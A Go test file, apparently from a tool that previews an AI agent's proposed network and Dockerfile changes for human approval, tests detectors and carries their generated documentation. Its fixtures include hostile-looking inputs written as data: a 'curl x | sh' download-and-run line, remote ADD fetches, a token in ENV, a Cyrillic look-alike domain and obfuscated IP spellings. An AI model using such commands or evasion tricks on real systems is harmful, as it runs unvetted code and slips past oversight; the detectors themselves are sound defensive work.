	target := apply.Target{Kind: apply.KindDockerfile, Exists: now != "", After: []byte(file), EntryBefore: now, EntryAfter: file}
	if now != "" {
		target.Before = []byte(now)
	}
	return findingsFor(payload.Payload{Tool: payload.Capability, Dockerfile: file}, planOf(target))
}

func TestDockerfileFindings(t *testing.T) {
	for _, tt := range buildCases {
		t.Run(tt.name, func(t *testing.T) {
			if got := strings.Join(codesOf(buildFindings(tt.now, tt.file)), " "); got != tt.want {
				t.Errorf("findings of\n%s\n= %q, want %q", tt.file, got, tt.want)
			}
		})
	}
}

// FuzzFindings: whatever an agent writes, the findings come, in order, and the same each time.
func FuzzFindings(f *testing.F) {
	for _, tt := range buildCases {
		f.Add(tt.now, tt.file, "example.com")
	}
	for _, tt := range hostCases {
		f.Add("", "FROM a", tt.host)
	}
	f.Fuzz(func(t *testing.T, now, file, host string) {
		build := buildFindings(now, file)
		if diff := cmp.Diff(build, buildFindings(now, file)); diff != "" {
			t.Errorf("a second reading differs (-first +second):\n%s", diff)
		}
		for _, fs := range [][]Finding{build, findingsFor(egressOf(host), planOf(newEntry(gate, host), newEntry(route, host)))} {
			codes := codesOf(fs)
			if u := slices.Compact(slices.Clone(codes)); len(u) != len(codes) {
				t.Errorf("a code comes twice: %v", codes)
			}
			if !slices.IsSortedFunc(fs, func(a, b Finding) int { return strings.Compare(string(a.Level), string(b.Level)) }) { // "danger" < "note"
				t.Errorf("a note comes before a danger: %v", codes)
			}
		}
	})
}

func TestFindingTexts(t *testing.T) {
	host := func(p payload.Payload) []Finding { return findingsFor(p, planOf(newEntry(apply.KindEgress))) }
	for _, tt := range []struct {
		name           string
		got            []Finding
		code           string
		text, evidence string // text: a part of it
	}{
		{"credential", host(withAuth(egressOf("a.example.com", "/"))), "credential", "every request to this host.", "Bearer GH_TOKEN to a.example.com"},
		{"credential in a shared domain", host(withAuth(egressOf("a.github.io", "/"))), "credential", "where anybody can get a name", "Bearer GH_TOKEN to a.github.io"},
		{"registry", host(egressOf("co.uk")), "public-suffix", "a registry sells names", "co.uk"},
		{"company", host(egressOf("github.io")), "public-suffix", "hands out names to its customers", "github.io"},
		{"customer", host(egressOf("a.github.io")), "public-suffix", "a customer's name", "github.io"},
		{"short paths are all shown", findingsFor(egressOf("a.example.com", shortOnes(26)...), planOf(scoped())), "widened", "so short", strings.Join(shortOnes(26), " ")},
		{"plain address", host(egressOf("8.8.8.8")), "ip-literal", "is an IP address, so", "8.8.8.8"},
		{"odd address", host(egressOf("0x7f.1")), "ip-literal", "unusual spelling", "0x7f.1 = 127.0.0.1"},
		{"two readings", host(egressOf("010.0.0.1")), "private", "private network", "010.0.0.1 = 8.0.0.1 = 10.0.0.1"},
		{"punycode", host(egressOf("xn--pple-43d.com")), "punycode", "beyond ASCII", "xn--pple-43d.com = аpple.com"},
		{"mixed script", host(egressOf("xn--pple-43d.com")), "mixed-script", "scripts", "аpple = Cyrillic + Latin"},
		{"secret's value stays out", buildFindings("", "FROM a\nENV A_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n"), "secret-in-env", "readable", "line 2: ENV A_TOKEN"},
		{"no tag", buildFindings("", "FROM a\n"), "base-unpinned", "no tag or the tag latest", "a"},
		{"a tag", buildFindings("", "FROM r.example:5000/a:1\n"), "base-unpinned", "not pinned by a digest", "r.example:5000/a:1"},
		{"base", buildFindings("FROM a:1\n", "FROM b:1\n"), "base-image", "other images", "b:1 (was a:1)"},
		{"one dropped", buildFindings("FROM a\nRUN x\n", "FROM a\n"), "dropped-lines", "One instruction", "RUN x"},
		{"many dropped", buildFindings("FROM a\nRUN 1\nRUN 2\nRUN 3\nRUN 4\nRUN 5\nRUN 6\n", "FROM a\n"), "dropped-lines", "6 instructions", "RUN 1; RUN 2; RUN 3; RUN 4; and 2 more"},
		{"a long line is cut", buildFindings("", "FROM a\nRUN curl x | sh "+strings.Repeat("ä", 500)+"\n"), "curl-pipe-sh", "unseen", "line 2: RUN curl x | sh " + strings.Repeat("ä", 135) + "…"},
		{"evidence is merged", buildFindings("", "FROM a\nADD http://x /\n\nADD http://y /\n"), "add-url", "remote", "line 2: ADD http://x /; line 4: ADD http://y /"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			i := slices.IndexFunc(tt.got, func(f Finding) bool { return f.Code == tt.code })
			if i < 0 {
				t.Fatalf("got %v, want a %s", codesOf(tt.got), tt.code)
			}
			f := tt.got[i]
			if !strings.Contains(f.Text, tt.text) || f.Evidence.Raw() != tt.evidence {
				t.Errorf("got %q with evidence %q, want %q with %q", f.Text, f.Evidence.Raw(), tt.text, tt.evidence)
			}
		})
	}
}

// TestFindingCodes: every code is listed once, dangers first, and some case of the tables raises it.
func TestFindingCodes(t *testing.T) {
	raised := map[string]bool{}
	note := func(fs []Finding) {
		for _, c := range codesOf(fs) {
			raised[c] = true
		}
	}
	for _, tt := range planCases {
		note(findingsFor(tt.p, tt.plan))
	}
	for _, tt := range hostCases {
		note(findingsFor(egressOf(tt.host), nil))
	}
	for _, tt := range buildCases {
		note(buildFindings(tt.now, tt.file))
	}
	seen := map[string]bool{}
	level := Danger
	for _, d := range FindingCodes() {
		if seen[d.Code] {
			t.Errorf("%s is listed twice", d.Code)
		}
		seen[d.Code] = true
		if d.Level == Danger && level == Note {
			t.Errorf("danger %s comes after a note", d.Code)
		}
		level = d.Level
		if !raised[d.Code] {
			t.Errorf("no test raises %s", d.Code)
		}
		if len(d.Tools) == 0 || !strings.HasSuffix(d.Text, ".") {
			t.Errorf("%s: tools %v, text %q; want tools and a sentence", d.Code, d.Tools, d.Text)
		}
	}
	for c := range raised {
		if !seen[c] {
			t.Errorf("%s is raised and not listed", c)
		}
	}
}

func TestFindingsDoc(t *testing.T) {
	const file = "../../docs/findings.md"
	var b strings.Builder
	b.WriteString(findingsIntro)
	level := Level("")
	for _, d := range FindingCodes() {
		if d.Level != level {
			level = d.Level
			fmt.Fprintf(&b, "\n## %s\n\n| code | raised by | meaning |\n|---|---|---|\n", map[Level]string{Danger: "Dangers", Note: "Notes"}[level])
		}
		fmt.Fprintf(&b, "| `%s` | `%s` | %s |\n", d.Code, strings.Join(d.Tools, "`, `"), d.Text)
	}
	b.WriteString(findingsLimits)
	if *updateFindings {
		if err := os.WriteFile(file, []byte(b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(b.String(), string(got)); diff != "" {
		t.Errorf("docs/findings.md mismatch, run go test ./internal/operator -run FindingsDoc -update-findings (-want +got):\n%s", diff)
	}
}

const findingsIntro = `# Findings

A preview says what approving a proposal would add, as *findings*: facts that follow from the proposal and the
files as they are, each with a stable code, a sentence, and the part of the proposal that shows it. Nothing is
guessed and nothing is looked up on the network.

A **danger** must be accepted by its code before the proposal can be approved (` + "`supervise approve ID --accept CODE`" + `, typed in
the terminal and in the browser). A **note** is there to be read.

What counts is what would change. A proposal that changes nothing raises only ` + "`covered`" + ` and what explains it. A target that is
not managed or cannot be read counts as if the host were not in it. In a Dockerfile an instruction that the current
one has word for word raises nothing again, unless it has a variable in it.
`

const findingsLimits = `
## What they do not see

- Names are not resolved: a public name may point to a private address. The proxy checks the address when it dials.
- ` + "`look-alike`" + ` compares with the hosts in the bottle's own tables and a short list of well-known ones: one letter more, less, other or
  swapped, digits and foreign letters of the same shape, a hyphen, another suffix, a known name in front of
  another domain, or its owner's as one word of a hyphenated name under the same suffix.
- ` + "`curl-pipe-sh`" + ` finds what is downloaded and run in one command. A file that is saved first and run later is not found,
  nor is a package manager that runs scripts of its own.
- ` + "`secret-in-env`" + ` goes by names and by the usual shapes of tokens.

A proposal without findings is not a safe proposal: read the diff.
`
